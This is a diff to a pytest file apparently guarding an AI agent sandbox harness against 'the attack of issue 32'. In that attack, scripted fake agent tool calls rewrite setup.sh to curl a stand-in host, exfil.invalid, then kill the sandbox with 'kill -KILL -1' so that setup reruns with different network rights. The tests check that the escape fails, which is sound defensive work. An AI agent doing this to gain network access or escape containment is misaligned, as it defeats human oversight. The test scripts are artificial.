@@ -207,9 +207,9 @@ HOSTILE_SETUP = (  # the agent's setup.sh: says which egress policy it ran under
     "#!/bin/sh\n"
     f"echo {MARK}: $(curl -s --max-time 20 -x \"$http_proxy\" http://exfil.invalid/)\n"
     "git checkout -q -- scripts/setup.sh\n")
-REWRITE_SETUP_THEN_KILL = [
+REWRITE_SETUP_THEN_KILL = [  # the sandbox is killed (`killed_while`) while the second call runs
     [{"type": "tool_use", "name": "write", "input": {"path": "scripts/setup.sh", "content": HOSTILE_SETUP}}],
-    [{"type": "tool_use", "name": "bash", "input": {"command": "echo notes > NOTES.md; kill -KILL -1"}}],
+    [{"type": "tool_use", "name": "bash", "input": {"command": f"echo notes > NOTES.md; {LONG}"}}],  # killed
     [{"type": "tool_use", "name": "bash", "input": {"command": "git status --short"}}],
     [{"type": "text", "text": "Done."}],
 ]
@@ -218,8 +218,9 @@ REWRITE_SETUP_THEN_KILL = [
 @pytest.mark.parametrize("mode", MODES[:2])
 def test_an_agent_that_kills_its_sandbox_never_runs_its_code_with_setups_network(fake_anthropic, tmp_path,
                                                                                    buggy_repo, mode):  # noqa: F811
-    """The attack of issue 32: an agent without network rewrites the script `setup:` runs, then kills its own
-    sandbox; the restarted sandbox runs setup again, but under the agent's policy, never setup's."""
+    """The attack of issue 32: an agent without network rewrites the script `setup:` runs, then its sandbox dies
+    (an agent could kill a docker container's agentd itself; under bwrap it cannot, below); the restarted sandbox
+    runs setup again, but under the agent's policy, never setup's."""
     require(mode)
     (buggy_repo / "scripts").mkdir()
     (buggy_repo / "scripts" / "setup.sh").write_text("#!/bin/sh\necho setting up\n")
@@ -228,7 +229,7 @@ def test_an_agent_that_kills_its_sandbox_never_runs_its_code_with_setups_network
     git(buggy_repo, "add", "-A")
     git(buggy_repo, "commit", "-qm", "A setup script")
     fake_anthropic.script(REWRITE_SETUP_THEN_KILL)
-    proc = decode_run(fake_anthropic, tmp_path, buggy_repo, mode)
+    proc, _ = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=1)
     assert proc.returncode == 0, proc.stderr
     md = Path(printed(proc.stdout, "transcript"))
     events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
@@ -256,7 +257,7 @@ def test_a_setup_that_needs_setups_network_fails_on_a_restart_and_the_run_goes_o
     fake_anthropic.script([REWRITE_SETUP_THEN_KILL[1], [{"type": "tool_use", "name": "bash",
                                                          "input": {"command": "cat setup.log NOTES.md"}}],
                            REWRITE_SETUP_THEN_KILL[3]])
-    proc = decode_run(fake_anthropic, tmp_path, buggy_repo, mode)
+    proc, _ = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=1)
     assert proc.returncode == 0, proc.stderr
     md = Path(printed(proc.stdout, "transcript"))
     events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
@@ -265,3 +266,18 @@ def test_a_setup_that_needs_setups_network_fails_on_a_restart_and_the_run_goes_o
     assert any(n.startswith("setup on the restarted sandbox, under the agent's network policy, did not pass (")
                for n in notes), notes
     assert fake_anthropic.requests[-1].body["messages"][-1]["content"][0]["content"].startswith("set-up\nnotes\n")
+
+
+@pytest.mark.parametrize("mode", [MODES[1]])
+def test_under_bwrap_an_agent_cannot_kill_agentd(fake_anthropic, tmp_path, buggy_repo, mode):  # noqa: F811
+    """agentd is the sandbox's pid 1 under bwrap: a signal from inside does not reach it, so an agent's
+    `kill -KILL -1` ends its own processes, not the sandbox, and the run goes on in it."""
+    require(mode)
+    fake_anthropic.script([[{"type": "tool_use", "name": "bash", "input": {"command": "echo notes > NOTES.md; "
+                                                                                   "kill -KILL -1"}}],
+                           [{"type": "tool_use", "name": "bash", "input": {"command": "cat NOTES.md"}}],
+                           [{"type": "text", "text": "Done."}]])
+    proc = decode_run(fake_anthropic, tmp_path, buggy_repo, mode)
+    assert proc.returncode == 0, proc.stderr
+    assert not restart_lines(fake_anthropic), "the sandbox died"
+    assert fake_anthropic.requests[-1].body["messages"][-1]["content"][0]["content"].startswith("notes")
